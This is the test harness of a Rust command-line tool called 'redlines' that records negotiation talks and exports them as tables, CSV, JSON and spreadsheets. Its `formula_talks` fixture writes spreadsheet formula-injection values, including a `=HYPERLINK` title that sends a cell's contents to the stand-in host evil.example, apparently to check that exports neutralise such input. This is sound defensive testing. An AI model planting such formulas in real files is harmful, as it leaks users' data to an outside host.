//! The binary run as a user runs it, on the fixture data under
//! `tests/fixtures/`, with colour off and the width fixed so that output is
//! stable. One module per command; snapshots live in `snapshots/`.

/// A snapshot of each of `cases` run on the bay fixture (`linkage::bay`)
/// in every format, named `bay--ARGS--FORMAT` in the calling module.
macro_rules! bay_in_every_format {
    ($cases:expr) => {
        for case in $cases {
            for format in $crate::FORMATS {
                let mut args = case.to_vec();
                args.extend(["--format", format]);
                insta::assert_snapshot!(
                    format!("bay--{}--{format}", case.join("_")),
                    $crate::linkage::bay(&args)
                );
            }
        }
    };
}

mod authoring;
mod check;
mod core;
mod csv;
mod curator;
mod dataset;
mod diff;
mod docs;
mod history;
mod hostile;
mod linkage;
mod matrix;
mod report;
mod scale;
mod shell;
mod trend;
mod ukraine;
mod whatif;
mod width;
mod xlsx;

use std::path::{Path, PathBuf};

use assert_cmd::Command;

pub fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures")
}

/// Copy the folder `from`, all it holds, to `to`.
pub fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let path = entry.unwrap().path();
        let target = to.join(path.file_name().unwrap());
        if path.is_dir() {
            copy_dir(&path, &target);
        } else {
            std::fs::copy(&path, &target).unwrap();
        }
    }
}

/// `redlines` with no data folder chosen and no inherited settings.
pub fn bare() -> Command {
    let mut cmd = Command::cargo_bin("redlines").unwrap();
    for var in [
        "REDLINES_DATA",
        "REDLINES_TALKS",
        "REDLINES_WIDTH",
        "NO_COLOR",
        "COLUMNS",
    ] {
        cmd.env_remove(var);
    }
    cmd.args(["--color", "never", "--width", "100"]);
    cmd
}

/// `redlines` on the fixture data folder.
pub fn redlines() -> Command {
    let mut cmd = bare();
    cmd.current_dir(fixtures()).args(["--data", "data"]);
    cmd
}

/// Run and return (stdout, stderr, exit code).
pub fn run(mut cmd: Command, args: &[&str]) -> (String, String, i32) {
    let out = cmd.args(args).output().unwrap();
    (
        String::from_utf8(out.stdout).unwrap(),
        String::from_utf8(out.stderr).unwrap(),
        out.status.code().unwrap_or(-1),
    )
}

/// [`run`] on the data folder `data`: (stdout, stderr, exit code).
pub fn run_on(data: impl AsRef<Path>, args: &[&str]) -> (String, String, i32) {
    let mut cmd = bare();
    cmd.arg("--data").arg(data.as_ref());
    run(cmd, args)
}

/// A data folder of one talks, `evil`, whose text a spreadsheet would run
/// as formulas: a `=HYPERLINK(…)` title, a party `+A`, an issue `@I`, a
/// summary `=1+1` (party `a`, issue `i`).
pub fn formula_talks() -> tempfile::TempDir {
    let tmp = tempfile::tempdir().unwrap();
    let talks = tmp.path().join("evil");
    std::fs::create_dir_all(talks.join("rounds")).unwrap();
    std::fs::write(
        talks.join("talks.toml"),
        "title = \"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"click\\\")\"\n[[parties]]\nid = \"a\"\nname = \"+A\"\n[[parties]]\nid = \"b\"\nname = \"B\"\n[[issues]]\nid = \"i\"\ntitle = \"@I\"\nscale = [{ id = \"x\", label = \"X\" }, { id = \"y\", label = \"Y\" }]\n",
    )
    .unwrap();
    std::fs::write(
        talks.join("rounds/2024-01-01-r.toml"),
        "date = 2024-01-01\ntitle = \"R\"\nparticipants = [\"a\"]\n[positions.a.i]\nstance = \"x\"\nsummary = \"=1+1\"\nnote = \"none\"\n",
    )
    .unwrap();
    tmp
}

/// Stdout of a command that must succeed.
pub fn ok(args: &[&str]) -> String {
    let (stdout, stderr, code) = run(redlines(), args);
    assert_eq!(code, 0, "redlines {args:?} failed:\n{stderr}");
    stdout
}

/// Every command, in every format: the outputs, for one snapshot per case.
pub const FORMATS: [&str; 4] = ["table", "markdown", "csv", "json"];
